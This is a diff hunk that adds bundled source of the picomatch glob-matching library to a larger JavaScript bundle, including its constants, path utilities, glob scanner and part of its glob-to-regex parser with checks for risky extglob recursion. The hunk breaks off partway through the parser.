@@ -7385,6 +7385,1782 @@ var require_dist = __commonJS({
   }
 });
 
+// node_modules/picomatch/lib/constants.js
+var require_constants = __commonJS({
+  "node_modules/picomatch/lib/constants.js"(exports2, module2) {
+    "use strict";
+    var WIN_SLASH = "\\\\/";
+    var WIN_NO_SLASH = `[^${WIN_SLASH}]`;
+    var DEFAULT_MAX_EXTGLOB_RECURSION = 0;
+    var DOT_LITERAL = "\\.";
+    var PLUS_LITERAL = "\\+";
+    var QMARK_LITERAL = "\\?";
+    var SLASH_LITERAL = "\\/";
+    var ONE_CHAR = "(?=.)";
+    var QMARK = "[^/]";
+    var END_ANCHOR = `(?:${SLASH_LITERAL}|$)`;
+    var START_ANCHOR = `(?:^|${SLASH_LITERAL})`;
+    var DOTS_SLASH = `${DOT_LITERAL}{1,2}${END_ANCHOR}`;
+    var NO_DOT = `(?!${DOT_LITERAL})`;
+    var NO_DOTS = `(?!${START_ANCHOR}${DOTS_SLASH})`;
+    var NO_DOT_SLASH = `(?!${DOT_LITERAL}{0,1}${END_ANCHOR})`;
+    var NO_DOTS_SLASH = `(?!${DOTS_SLASH})`;
+    var QMARK_NO_DOT = `[^.${SLASH_LITERAL}]`;
+    var STAR = `${QMARK}*?`;
+    var SEP = "/";
+    var POSIX_CHARS = {
+      DOT_LITERAL,
+      PLUS_LITERAL,
+      QMARK_LITERAL,
+      SLASH_LITERAL,
+      ONE_CHAR,
+      QMARK,
+      END_ANCHOR,
+      DOTS_SLASH,
+      NO_DOT,
+      NO_DOTS,
+      NO_DOT_SLASH,
+      NO_DOTS_SLASH,
+      QMARK_NO_DOT,
+      STAR,
+      START_ANCHOR,
+      SEP
+    };
+    var WINDOWS_CHARS = {
+      ...POSIX_CHARS,
+      SLASH_LITERAL: `[${WIN_SLASH}]`,
+      QMARK: WIN_NO_SLASH,
+      STAR: `${WIN_NO_SLASH}*?`,
+      DOTS_SLASH: `${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$)`,
+      NO_DOT: `(?!${DOT_LITERAL})`,
+      NO_DOTS: `(?!(?:^|[${WIN_SLASH}])${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
+      NO_DOT_SLASH: `(?!${DOT_LITERAL}{0,1}(?:[${WIN_SLASH}]|$))`,
+      NO_DOTS_SLASH: `(?!${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
+      QMARK_NO_DOT: `[^.${WIN_SLASH}]`,
+      START_ANCHOR: `(?:^|[${WIN_SLASH}])`,
+      END_ANCHOR: `(?:[${WIN_SLASH}]|$)`,
+      SEP: "\\"
+    };
+    var POSIX_REGEX_SOURCE = {
+      __proto__: null,
+      alnum: "a-zA-Z0-9",
+      alpha: "a-zA-Z",
+      ascii: "\\x00-\\x7F",
+      blank: " \\t",
+      cntrl: "\\x00-\\x1F\\x7F",
+      digit: "0-9",
+      graph: "\\x21-\\x7E",
+      lower: "a-z",
+      print: "\\x20-\\x7E ",
+      punct: "\\-!\"#$%&'()\\*+,./:;<=>?@[\\]^_`{|}~",
+      space: " \\t\\r\\n\\v\\f",
+      upper: "A-Z",
+      word: "A-Za-z0-9_",
+      xdigit: "A-Fa-f0-9"
+    };
+    module2.exports = {
+      DEFAULT_MAX_EXTGLOB_RECURSION,
+      MAX_LENGTH: 1024 * 64,
+      POSIX_REGEX_SOURCE,
+      // regular expressions
+      REGEX_BACKSLASH: /\\(?![*+?^${}(|)[\]])/g,
+      REGEX_NON_SPECIAL_CHARS: /^[^@![\].,$*+?^{}()|\\/]+/,
+      REGEX_SPECIAL_CHARS: /[-*+?.^${}(|)[\]]/,
+      REGEX_SPECIAL_CHARS_BACKREF: /(\\?)((\W)(\3*))/g,
+      REGEX_SPECIAL_CHARS_GLOBAL: /([-*+?.^${}(|)[\]])/g,
+      REGEX_REMOVE_BACKSLASH: /(?:\[.*?[^\\]\]|\\(?=.))/g,
+      // Replace globs with equivalent patterns to reduce parsing time.
+      REPLACEMENTS: {
+        __proto__: null,
+        "***": "*",
+        "**/**": "**",
+        "**/**/**": "**"
+      },
+      // Digits
+      CHAR_0: 48,
+      /* 0 */
+      CHAR_9: 57,
+      /* 9 */
+      // Alphabet chars.
+      CHAR_UPPERCASE_A: 65,
+      /* A */
+      CHAR_LOWERCASE_A: 97,
+      /* a */
+      CHAR_UPPERCASE_Z: 90,
+      /* Z */
+      CHAR_LOWERCASE_Z: 122,
+      /* z */
+      CHAR_LEFT_PARENTHESES: 40,
+      /* ( */
+      CHAR_RIGHT_PARENTHESES: 41,
+      /* ) */
+      CHAR_ASTERISK: 42,
+      /* * */
+      // Non-alphabetic chars.
+      CHAR_AMPERSAND: 38,
+      /* & */
+      CHAR_AT: 64,
+      /* @ */
+      CHAR_BACKWARD_SLASH: 92,
+      /* \ */
+      CHAR_CARRIAGE_RETURN: 13,
+      /* \r */
+      CHAR_CIRCUMFLEX_ACCENT: 94,
+      /* ^ */
+      CHAR_COLON: 58,
+      /* : */
+      CHAR_COMMA: 44,
+      /* , */
+      CHAR_DOT: 46,
+      /* . */
+      CHAR_DOUBLE_QUOTE: 34,
+      /* " */
+      CHAR_EQUAL: 61,
+      /* = */
+      CHAR_EXCLAMATION_MARK: 33,
+      /* ! */
+      CHAR_FORM_FEED: 12,
+      /* \f */
+      CHAR_FORWARD_SLASH: 47,
+      /* / */
+      CHAR_GRAVE_ACCENT: 96,
+      /* ` */
+      CHAR_HASH: 35,
+      /* # */
+      CHAR_HYPHEN_MINUS: 45,
+      /* - */
+      CHAR_LEFT_ANGLE_BRACKET: 60,
+      /* < */
+      CHAR_LEFT_CURLY_BRACE: 123,
+      /* { */
+      CHAR_LEFT_SQUARE_BRACKET: 91,
+      /* [ */
+      CHAR_LINE_FEED: 10,
+      /* \n */
+      CHAR_NO_BREAK_SPACE: 160,
+      /* \u00A0 */
+      CHAR_PERCENT: 37,
+      /* % */
+      CHAR_PLUS: 43,
+      /* + */
+      CHAR_QUESTION_MARK: 63,
+      /* ? */
+      CHAR_RIGHT_ANGLE_BRACKET: 62,
+      /* > */
+      CHAR_RIGHT_CURLY_BRACE: 125,
+      /* } */
+      CHAR_RIGHT_SQUARE_BRACKET: 93,
+      /* ] */
+      CHAR_SEMICOLON: 59,
+      /* ; */
+      CHAR_SINGLE_QUOTE: 39,
+      /* ' */
+      CHAR_SPACE: 32,
+      /*   */
+      CHAR_TAB: 9,
+      /* \t */
+      CHAR_UNDERSCORE: 95,
+      /* _ */
+      CHAR_VERTICAL_LINE: 124,
+      /* | */
+      CHAR_ZERO_WIDTH_NOBREAK_SPACE: 65279,
+      /* \uFEFF */
+      /**
+       * Create EXTGLOB_CHARS
+       */
+      extglobChars(chars) {
+        return {
+          "!": { type: "negate", open: "(?:(?!(?:", close: `))${chars.STAR})` },
+          "?": { type: "qmark", open: "(?:", close: ")?" },
+          "+": { type: "plus", open: "(?:", close: ")+" },
+          "*": { type: "star", open: "(?:", close: ")*" },
+          "@": { type: "at", open: "(?:", close: ")" }
+        };
+      },
+      /**
+       * Create GLOB_CHARS
+       */
+      globChars(win322) {
+        return win322 === true ? WINDOWS_CHARS : POSIX_CHARS;
+      }
+    };
+  }
+});
+
+// node_modules/picomatch/lib/utils.js
+var require_utils = __commonJS({
+  "node_modules/picomatch/lib/utils.js"(exports2) {
+    "use strict";
+    var {
+      REGEX_BACKSLASH,
+      REGEX_REMOVE_BACKSLASH,
+      REGEX_SPECIAL_CHARS,
+      REGEX_SPECIAL_CHARS_GLOBAL
+    } = require_constants();
+    exports2.isObject = (val) => val !== null && typeof val === "object" && !Array.isArray(val);
+    exports2.hasRegexChars = (str5) => REGEX_SPECIAL_CHARS.test(str5);
+    exports2.isRegexChar = (str5) => str5.length === 1 && exports2.hasRegexChars(str5);
+    exports2.escapeRegex = (str5) => str5.replace(REGEX_SPECIAL_CHARS_GLOBAL, "\\$1");
+    exports2.toPosixSlashes = (str5) => str5.replace(REGEX_BACKSLASH, "/");
+    exports2.isWindows = () => {
+      if (typeof navigator !== "undefined" && navigator.platform) {
+        const platform = navigator.platform.toLowerCase();
+        return platform === "win32" || platform === "windows";
+      }
+      if (typeof process !== "undefined" && process.platform) {
+        return process.platform === "win32";
+      }
+      return false;
+    };
+    exports2.removeBackslashes = (str5) => {
+      return str5.replace(REGEX_REMOVE_BACKSLASH, (match) => {
+        return match === "\\" ? "" : match;
+      });
+    };
+    exports2.escapeLast = (input, char, lastIdx) => {
+      const idx = input.lastIndexOf(char, lastIdx);
+      if (idx === -1) return input;
+      if (input[idx - 1] === "\\") return exports2.escapeLast(input, char, idx - 1);
+      return `${input.slice(0, idx)}\\${input.slice(idx)}`;
+    };
+    exports2.removePrefix = (input, state = {}) => {
+      let output = input;
+      if (output.startsWith("./")) {
+        output = output.slice(2);
+        state.prefix = "./";
+      }
+      return output;
+    };
+    exports2.wrapOutput = (input, state = {}, options = {}) => {
+      const prepend = options.contains ? "" : "^";
+      const append = options.contains ? "" : "$";
+      let output = `${prepend}(?:${input})${append}`;
+      if (state.negated === true) {
+        output = `(?:^(?!${output}).*$)`;
+      }
+      return output;
+    };
+    exports2.basename = (path21, { windows } = {}) => {
+      const segs = path21.split(windows ? /[\\/]/ : "/");
+      const last = segs[segs.length - 1];
+      if (last === "") {
+        return segs[segs.length - 2];
+      }
+      return last;
+    };
+  }
+});
+
+// node_modules/picomatch/lib/scan.js
+var require_scan = __commonJS({
+  "node_modules/picomatch/lib/scan.js"(exports2, module2) {
+    "use strict";
+    var utils = require_utils();
+    var {
+      CHAR_ASTERISK,
+      /* * */
+      CHAR_AT,
+      /* @ */
+      CHAR_BACKWARD_SLASH,
+      /* \ */
+      CHAR_COMMA,
+      /* , */
+      CHAR_DOT,
+      /* . */
+      CHAR_EXCLAMATION_MARK,
+      /* ! */
+      CHAR_FORWARD_SLASH,
+      /* / */
+      CHAR_LEFT_CURLY_BRACE,
+      /* { */
+      CHAR_LEFT_PARENTHESES,
+      /* ( */
+      CHAR_LEFT_SQUARE_BRACKET,
+      /* [ */
+      CHAR_PLUS,
+      /* + */
+      CHAR_QUESTION_MARK,
+      /* ? */
+      CHAR_RIGHT_CURLY_BRACE,
+      /* } */
+      CHAR_RIGHT_PARENTHESES,
+      /* ) */
+      CHAR_RIGHT_SQUARE_BRACKET
+      /* ] */
+    } = require_constants();
+    var isPathSeparator = (code3) => {
+      return code3 === CHAR_FORWARD_SLASH || code3 === CHAR_BACKWARD_SLASH;
+    };
+    var depth = (token) => {
+      if (token.isPrefix !== true) {
+        token.depth = token.isGlobstar ? Infinity : 1;
+      }
+    };
+    var scan = (input, options) => {
+      const opts = options || {};
+      const length = input.length - 1;
+      const scanToEnd = opts.parts === true || opts.tokens === true || opts.scanToEnd === true;
+      const slashes = [];
+      const tokens = [];
+      const parts = [];
+      let str5 = input;
+      let index2 = -1;
+      let start = 0;
+      let lastIndex = 0;
+      let isBrace = false;
+      let isBracket = false;
+      let isGlob = false;
+      let isExtglob = false;
+      let isGlobstar = false;
+      let braceEscaped = false;
+      let backslashes = false;
+      let negated = false;
+      let negatedExtglob = false;
+      let finished = false;
+      let braces = 0;
+      let prev;
+      let code3;
+      let token = { value: "", depth: 0, isGlob: false };
+      const eos = () => index2 >= length;
+      const peek = () => str5.charCodeAt(index2 + 1);
+      const advance = () => {
+        prev = code3;
+        return str5.charCodeAt(++index2);
+      };
+      while (index2 < length) {
+        code3 = advance();
+        let next;
+        if (code3 === CHAR_BACKWARD_SLASH) {
+          backslashes = token.backslashes = true;
+          code3 = advance();
+          if (code3 === CHAR_LEFT_CURLY_BRACE) {
+            braceEscaped = true;
+          }
+          continue;
+        }
+        if (braceEscaped === true || code3 === CHAR_LEFT_CURLY_BRACE) {
+          braces++;
+          while (eos() !== true && (code3 = advance())) {
+            if (code3 === CHAR_BACKWARD_SLASH) {
+              backslashes = token.backslashes = true;
+              advance();
+              continue;
+            }
+            if (code3 === CHAR_LEFT_CURLY_BRACE) {
+              braces++;
+              continue;
+            }
+            if (braceEscaped !== true && code3 === CHAR_DOT && (code3 = advance()) === CHAR_DOT) {
+              isBrace = token.isBrace = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              if (scanToEnd === true) {
+                continue;
+              }
+              break;
+            }
+            if (braceEscaped !== true && code3 === CHAR_COMMA) {
+              isBrace = token.isBrace = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              if (scanToEnd === true) {
+                continue;
+              }
+              break;
+            }
+            if (code3 === CHAR_RIGHT_CURLY_BRACE) {
+              braces--;
+              if (braces === 0) {
+                braceEscaped = false;
+                isBrace = token.isBrace = true;
+                finished = true;
+                break;
+              }
+            }
+          }
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code3 === CHAR_FORWARD_SLASH) {
+          slashes.push(index2);
+          tokens.push(token);
+          token = { value: "", depth: 0, isGlob: false };
+          if (finished === true) continue;
+          if (prev === CHAR_DOT && index2 === start + 1) {
+            start += 2;
+            continue;
+          }
+          lastIndex = index2 + 1;
+          continue;
+        }
+        if (opts.noext !== true) {
+          const isExtglobChar = code3 === CHAR_PLUS || code3 === CHAR_AT || code3 === CHAR_ASTERISK || code3 === CHAR_QUESTION_MARK || code3 === CHAR_EXCLAMATION_MARK;
+          if (isExtglobChar === true && peek() === CHAR_LEFT_PARENTHESES) {
+            isGlob = token.isGlob = true;
+            isExtglob = token.isExtglob = true;
+            finished = true;
+            if (code3 === CHAR_EXCLAMATION_MARK && index2 === start) {
+              negatedExtglob = true;
+            }
+            if (scanToEnd === true) {
+              let parens = 0;
+              while (eos() !== true && (code3 = advance())) {
+                if (code3 === CHAR_BACKWARD_SLASH) {
+                  backslashes = token.backslashes = true;
+                  advance();
+                  continue;
+                }
+                if (code3 === CHAR_LEFT_PARENTHESES) {
+                  parens++;
+                  continue;
+                }
+                if (code3 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
+                  finished = true;
+                  break;
+                }
+              }
+              continue;
+            }
+            break;
+          }
+        }
+        if (code3 === CHAR_ASTERISK) {
+          if (prev === CHAR_ASTERISK) isGlobstar = token.isGlobstar = true;
+          isGlob = token.isGlob = true;
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code3 === CHAR_QUESTION_MARK) {
+          isGlob = token.isGlob = true;
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (code3 === CHAR_LEFT_SQUARE_BRACKET) {
+          while (eos() !== true && (next = advance())) {
+            if (next === CHAR_BACKWARD_SLASH) {
+              backslashes = token.backslashes = true;
+              advance();
+              continue;
+            }
+            if (next === CHAR_RIGHT_SQUARE_BRACKET) {
+              isBracket = token.isBracket = true;
+              isGlob = token.isGlob = true;
+              finished = true;
+              break;
+            }
+          }
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+        if (opts.nonegate !== true && code3 === CHAR_EXCLAMATION_MARK && index2 === start) {
+          negated = token.negated = true;
+          start++;
+          continue;
+        }
+        if (opts.noparen !== true && code3 === CHAR_LEFT_PARENTHESES) {
+          isGlob = token.isGlob = true;
+          if (scanToEnd === true) {
+            let parens = 1;
+            while (eos() !== true && (code3 = advance())) {
+              if (code3 === CHAR_BACKWARD_SLASH) {
+                backslashes = token.backslashes = true;
+                advance();
+                continue;
+              }
+              if (code3 === CHAR_LEFT_PARENTHESES) {
+                parens++;
+                continue;
+              }
+              if (code3 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
+                finished = true;
+                break;
+              }
+            }
+            continue;
+          }
+          break;
+        }
+        if (isGlob === true) {
+          finished = true;
+          if (scanToEnd === true) {
+            continue;
+          }
+          break;
+        }
+      }
+      if (opts.noext === true) {
+        isExtglob = false;
+        isGlob = false;
+      }
+      let base = str5;
+      let prefix = "";
+      let glob = "";
+      if (start > 0) {
+        prefix = str5.slice(0, start);
+        str5 = str5.slice(start);
+        lastIndex -= start;
+      }
+      if (base && isGlob === true && lastIndex > 0) {
+        base = str5.slice(0, lastIndex);
+        glob = str5.slice(lastIndex);
+      } else if (isGlob === true) {
+        base = "";
+        glob = str5;
+      } else {
+        base = str5;
+      }
+      if (base && base !== "" && base !== "/" && base !== str5) {
+        if (isPathSeparator(base.charCodeAt(base.length - 1))) {
+          base = base.slice(0, -1);
+        }
+      }
+      if (opts.unescape === true) {
+        if (glob) glob = utils.removeBackslashes(glob);
+        if (base && backslashes === true) {
+          base = utils.removeBackslashes(base);
+        }
+      }
+      const state = {
+        prefix,
+        input,
+        start,
+        base,
+        glob,
+        isBrace,
+        isBracket,
+        isGlob,
+        isExtglob,
+        isGlobstar,
+        negated,
+        negatedExtglob
+      };
+      if (opts.tokens === true) {
+        state.maxDepth = 0;
+        if (!isPathSeparator(code3)) {
+          tokens.push(token);
+        }
+        state.tokens = tokens;
+      }
+      if (opts.parts === true || opts.tokens === true) {
+        let prevIndex;
+        for (let idx = 0; idx < slashes.length; idx++) {
+          const n2 = prevIndex !== void 0 ? prevIndex + 1 : start;
+          const i = slashes[idx];
+          const value2 = input.slice(n2, i);
+          if (opts.tokens) {
+            if (idx === 0 && start !== 0) {
+              tokens[idx].isPrefix = true;
+              tokens[idx].value = prefix;
+            } else {
+              tokens[idx].value = value2;
+            }
+            depth(tokens[idx]);
+            state.maxDepth += tokens[idx].depth;
+          }
+          if (i >= start) {
+            parts.push(value2);
+            prevIndex = i;
+          }
+        }
+        const n = prevIndex !== void 0 ? prevIndex + 1 : start;
+        const value = input.slice(n);
+        parts.push(value);
+        if (opts.tokens && prevIndex && prevIndex + 1 < input.length) {
+          tokens[tokens.length - 1].value = value;
+          depth(tokens[tokens.length - 1]);
+          state.maxDepth += tokens[tokens.length - 1].depth;
+        }
+        state.slashes = slashes;
+        state.parts = parts;
+      }
+      return state;
+    };
+    module2.exports = scan;
+  }
+});
+
+// node_modules/picomatch/lib/parse.js
+var require_parse = __commonJS({
+  "node_modules/picomatch/lib/parse.js"(exports2, module2) {
+    "use strict";
+    var constants = require_constants();
+    var utils = require_utils();
+    var {
+      MAX_LENGTH,
+      POSIX_REGEX_SOURCE,
+      REGEX_NON_SPECIAL_CHARS,
+      REGEX_SPECIAL_CHARS_BACKREF,
+      REPLACEMENTS
+    } = constants;
+    var expandRange = (args, options) => {
+      if (typeof options.expandRange === "function") {
+        return options.expandRange(...args, options);
+      }
+      args.sort();
+      const value = `[${args.join("-")}]`;
+      try {
+        new RegExp(value);
+      } catch (ex) {
+        return args.map((v) => utils.escapeRegex(v)).join("..");
+      }
+      return value;
+    };
+    var syntaxError = (type, char) => {
+      return `Missing ${type}: "${char}" - use "\\\\${char}" to match literal characters`;
+    };
+    var splitTopLevel = (input) => {
+      const parts = [];
+      let bracket = 0;
+      let paren = 0;
+      let quote2 = 0;
+      let value = "";
+      let escaped = false;
+      for (const ch of input) {
+        if (escaped === true) {
+          value += ch;
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          value += ch;
+          escaped = true;
+          continue;
+        }
+        if (ch === '"') {
+          quote2 = quote2 === 1 ? 0 : 1;
+          value += ch;
+          continue;
+        }
+        if (quote2 === 0) {
+          if (ch === "[") {
+            bracket++;
+          } else if (ch === "]" && bracket > 0) {
+            bracket--;
+          } else if (bracket === 0) {
+            if (ch === "(") {
+              paren++;
+            } else if (ch === ")" && paren > 0) {
+              paren--;
+            } else if (ch === "|" && paren === 0) {
+              parts.push(value);
+              value = "";
+              continue;
+            }
+          }
+        }
+        value += ch;
+      }
+      parts.push(value);
+      return parts;
+    };
+    var isPlainBranch = (branch) => {
+      let escaped = false;
+      for (const ch of branch) {
+        if (escaped === true) {
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          escaped = true;
+          continue;
+        }
+        if (/[?*+@!()[\]{}]/.test(ch)) {
+          return false;
+        }
+      }
+      return true;
+    };
+    var normalizeSimpleBranch = (branch) => {
+      let value = branch.trim();
+      let changed = true;
+      while (changed === true) {
+        changed = false;
+        if (/^@\([^\\()[\]{}|]+\)$/.test(value)) {
+          value = value.slice(2, -1);
+          changed = true;
+        }
+      }
+      if (!isPlainBranch(value)) {
+        return;
+      }
+      return value.replace(/\\(.)/g, "$1");
+    };
+    var hasRepeatedCharPrefixOverlap = (branches) => {
+      const values = branches.map(normalizeSimpleBranch).filter(Boolean);
+      for (let i = 0; i < values.length; i++) {
+        for (let j = i + 1; j < values.length; j++) {
+          const a = values[i];
+          const b = values[j];
+          const char = a[0];
+          if (!char || a !== char.repeat(a.length) || b !== char.repeat(b.length)) {
+            continue;
+          }
+          if (a === b || a.startsWith(b) || b.startsWith(a)) {
+            return true;
+          }
+        }
+      }
+      return false;
+    };
+    var parseRepeatedExtglob = (pattern, requireEnd = true) => {
+      if (pattern[0] !== "+" && pattern[0] !== "*" || pattern[1] !== "(") {
+        return;
+      }
+      let bracket = 0;
+      let paren = 0;
+      let quote2 = 0;
+      let escaped = false;
+      for (let i = 1; i < pattern.length; i++) {
+        const ch = pattern[i];
+        if (escaped === true) {
+          escaped = false;
+          continue;
+        }
+        if (ch === "\\") {
+          escaped = true;
+          continue;
+        }
+        if (ch === '"') {
+          quote2 = quote2 === 1 ? 0 : 1;
+          continue;
+        }
+        if (quote2 === 1) {
+          continue;
+        }
+        if (ch === "[") {
+          bracket++;
+          continue;
+        }
+        if (ch === "]" && bracket > 0) {
+          bracket--;
+          continue;
+        }
+        if (bracket > 0) {
+          continue;
+        }
+        if (ch === "(") {
+          paren++;
+          continue;
+        }
+        if (ch === ")") {
+          paren--;
+          if (paren === 0) {
+            if (requireEnd === true && i !== pattern.length - 1) {
+              return;
+            }
+            return {
+              type: pattern[0],
+              body: pattern.slice(2, i),
+              end: i
+            };
+          }
+        }
+      }
+    };
+    var buildCharClassStar = (chars) => {
+      const source = chars.length === 1 ? utils.escapeRegex(chars[0]) : `[${chars.map((ch) => utils.escapeRegex(ch)).join("")}]`;
+      return `${source}*`;
+    };
+    var getStarExtglobSequenceChars = (pattern) => {
+      let index2 = 0;
+      const chars = [];
+      while (index2 < pattern.length) {
+        const match = parseRepeatedExtglob(pattern.slice(index2), false);
+        if (!match || match.type !== "*") {
+          return;
+        }
+        const branches = splitTopLevel(match.body).map((branch2) => branch2.trim());
+        if (branches.length !== 1) {
+          return;
+        }
+        const branch = normalizeSimpleBranch(branches[0]);
+        if (!branch || branch.length !== 1) {
+          return;
+        }
+        chars.push(branch);
+        index2 += match.end + 1;
+      }
+      if (chars.length < 1) {
+        return;
+      }
+      return chars;
+    };
+    var repeatedExtglobRecursion = (pattern) => {
+      let depth = 0;
+      let value = pattern.trim();
+      let match = parseRepeatedExtglob(value);
+      while (match) {
+        depth++;
+        value = match.body.trim();
+        match = parseRepeatedExtglob(value);
+      }
+      return depth;
+    };
+    var analyzeRepeatedExtglob = (body, options) => {
+      if (options.maxExtglobRecursion === false) {
+        return { risky: false };
+      }
+      const max = typeof options.maxExtglobRecursion === "number" ? options.maxExtglobRecursion : constants.DEFAULT_MAX_EXTGLOB_RECURSION;
+      const branches = splitTopLevel(body).map((branch) => branch.trim());
+      if (branches.length > 1) {
+        if (branches.some((branch) => branch === "") || branches.some((branch) => /^[*?]+$/.test(branch)) || hasRepeatedCharPrefixOverlap(branches)) {
+          return { risky: true };
+        }
+      }
+      const safeChars = [];
+      let sawStarSequence = false;
+      let combinable = true;
+      for (const branch of branches) {
+        const chars = getStarExtglobSequenceChars(branch);
+        if (chars) {
+          sawStarSequence = true;
+          safeChars.push(...chars);
+          continue;
+        }
+        const literal = normalizeSimpleBranch(branch);
+        if (literal && literal.length === 1) {
+          safeChars.push(literal);
+          continue;
+        }
+        combinable = false;
+        if (repeatedExtglobRecursion(branch) > max) {
+          return { risky: true };
+        }
+      }
+      if (sawStarSequence) {
+        return combinable ? { risky: true, safeOutput: buildCharClassStar([...new Set(safeChars)]) } : { risky: true };
+      }
+      return { risky: false };
+    };
+    var parse4 = (input, options) => {
+      if (typeof input !== "string") {
+        throw new TypeError("Expected a string");
+      }
+      input = REPLACEMENTS[input] || input;
+      const opts = { ...options };
+      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
+      let len = input.length;
+      if (len > max) {
+        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
+      }
+      const bos = { type: "bos", value: "", output: opts.prepend || "" };
+      const tokens = [bos];
+      const capture = opts.capture ? "" : "?:";
+      const PLATFORM_CHARS = constants.globChars(opts.windows);
+      const EXTGLOB_CHARS = constants.extglobChars(PLATFORM_CHARS);
+      const {
+        DOT_LITERAL,
+        PLUS_LITERAL,
+        SLASH_LITERAL,
+        ONE_CHAR,
+        DOTS_SLASH,
+        NO_DOT,
+        NO_DOT_SLASH,
+        NO_DOTS_SLASH,
+        QMARK,
+        QMARK_NO_DOT,
+        STAR,
+        START_ANCHOR
+      } = PLATFORM_CHARS;
+      const globstar = (opts2) => {
+        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
+      };
+      const nodot = opts.dot ? "" : NO_DOT;
+      const qmarkNoDot = opts.dot ? QMARK : QMARK_NO_DOT;
+      let star = opts.bash === true ? globstar(opts) : STAR;
+      if (opts.capture) {
+        star = `(${star})`;
+      }
+      if (typeof opts.noext === "boolean") {
+        opts.noextglob = opts.noext;
+      }
+      const state = {
+        input,
+        index: -1,
+        start: 0,
+        dot: opts.dot === true,
+        consumed: "",
+        output: "",
+        prefix: "",
+        backtrack: false,
+        negated: false,
+        brackets: 0,
+        braces: 0,
+        parens: 0,
+        quotes: 0,
+        globstar: false,
+        tokens
+      };
+      input = utils.removePrefix(input, state);
+      len = input.length;
+      const extglobs = [];
+      const braces = [];
+      const stack = [];
+      let prev = bos;
+      let value;
+      const eos = () => state.index === len - 1;
+      const peek = state.peek = (n = 1) => input[state.index + n];
+      const advance = state.advance = () => input[++state.index] || "";
+      const remaining = () => input.slice(state.index + 1);
+      const consume = (value2 = "", num2 = 0) => {
+        state.consumed += value2;
+        state.index += num2;
+      };
+      const append = (token) => {
+        state.output += token.output != null ? token.output : token.value;
+        consume(token.value);
+      };
+      const negate = () => {
+        let count = 1;
+        while (peek() === "!" && (peek(2) !== "(" || peek(3) === "?")) {
+          advance();
+          state.start++;
+          count++;
+        }
+        if (count % 2 === 0) {
+          return false;
+        }
+        state.negated = true;
+        state.start++;
+        return true;
+      };
+      const increment = (type) => {
+        state[type]++;
+        stack.push(type);
+      };
+      const decrement = (type) => {
+        state[type]--;
+        stack.pop();
+      };
+      const push = (tok) => {
+        if (prev.type === "globstar") {
+          const isBrace = state.braces > 0 && (tok.type === "comma" || tok.type === "brace");
+          const isExtglob = tok.extglob === true || extglobs.length && (tok.type === "pipe" || tok.type === "paren");
+          if (tok.type !== "slash" && tok.type !== "paren" && !isBrace && !isExtglob) {
+            state.output = state.output.slice(0, -prev.output.length);
+            prev.type = "star";
+            prev.value = "*";
+            prev.output = star;
+            state.output += prev.output;
+          }
+        }
+        if (extglobs.length && tok.type !== "paren") {
+          extglobs[extglobs.length - 1].inner += tok.value;
+        }
+        if (tok.value || tok.output) append(tok);
+        if (prev && prev.type === "text" && tok.type === "text") {
+          prev.output = (prev.output || prev.value) + tok.value;
+          prev.value += tok.value;
+          return;
+        }
+        tok.prev = prev;
+        tokens.push(tok);
+        prev = tok;
+      };
+      const extglobOpen = (type, value2) => {
+        const token = { ...EXTGLOB_CHARS[value2], conditions: 1, inner: "" };
+        token.prev = prev;
+        token.parens = state.parens;
+        token.output = state.output;
+        token.startIndex = state.index;
+        token.tokensIndex = tokens.length;
+        const output = (opts.capture ? "(" : "") + token.open;
+        increment("parens");
+        push({ type, value: value2, output: state.output ? "" : ONE_CHAR });
+        push({ type: "paren", extglob: true, value: advance(), output });
+        extglobs.push(token);
+      };
+      const extglobClose = (token) => {
+        const literal = input.slice(token.startIndex, state.index + 1);
+        const body = input.slice(token.startIndex + 2, state.index);
+        const analysis = analyzeRepeatedExtglob(body, opts);
+        if ((token.type === "plus" || token.type === "star") && analysis.risky) {
+          const safeOutput = analysis.safeOutput ? (token.output ? "" : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput) : void 0;
+          const open = tokens[token.tokensIndex];
+          open.type = "text";
+          open.value = literal;
+          open.output = safeOutput || utils.escapeRegex(literal);
+          for (let i = token.tokensIndex + 1; i < tokens.length; i++) {
+            tokens[i].value = "";
+            tokens[i].output = "";
+            delete tokens[i].suffix;
+          }
+          state.output = token.output + open.output;
+          state.backtrack = true;
+          push({ type: "paren", extglob: true, value, output: "" });
+          decrement("parens");
+          return;
+        }
+        let output = token.close + (opts.capture ? ")" : "");
+        let rest;
+        if (token.type === "negate") {
+          let extglobStar = star;
+          if (token.inner && token.inner.length > 1 && token.inner.includes("/")) {
+            extglobStar = globstar(opts);
+          }
+          if (extglobStar !== star || eos() || /^\)+$/.test(remaining())) {
+            output = token.close = `)$))${extglobStar}`;
+          }
+          if (token.inner.includes("*") && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
+            const expression = parse4(rest, { ...options, fastpaths: false }).output;
+            output = token.close = `)${expression})${extglobStar})`;
+          }
+          if (token.prev.type === "bos") {
+            state.negatedExtglob = true;
+          }
+        }
+        push({ type: "paren", extglob: true, value, output });
+        decrement("parens");
+      };
+      if (opts.fastpaths !== false && !/(^[*!]|[/()[\]{}"])/.test(input)) {
+        let backslashes = false;
+        let output = input.replace(REGEX_SPECIAL_CHARS_BACKREF, (m, esc, chars, first, rest, index2) => {
+          if (first === "\\") {
+            backslashes = true;
+            return m;
+          }
+          if (first === "?") {
+            if (esc) {
+              return esc + first + (rest ? QMARK.repeat(rest.length) : "");
+            }
